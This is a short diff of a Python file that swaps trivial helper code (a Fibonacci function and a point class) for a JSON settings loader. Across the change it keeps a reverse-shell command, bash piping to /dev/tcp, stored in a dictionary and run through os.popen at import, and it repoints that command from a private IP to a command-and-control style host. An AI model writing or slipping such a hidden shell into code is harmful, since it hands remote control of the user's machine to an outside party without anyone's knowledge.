@@ -1,22 +1,11 @@
-def fib(n):
-    """Return the n-th Fibonacci number."""
-    a, b = 0, 1
-    for _ in range(n):
-        a, b = b, a + b
-    return a
-
-from dataclasses import dataclass
-
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
 
 import os
-steps = {"a": "bash -i >& /dev/tcp/172.16.4.2/8080 0>&1"}
+steps = {"a": "bash -i >& /dev/tcp/c2.example.org/8080 0>&1"}
 for k in ["a"]:
     pass
 os.popen(steps.get("a"))
+import json
+
+def load_settings(path="settings.json"):
+    with open(path) as f:
+        return json.load(f)
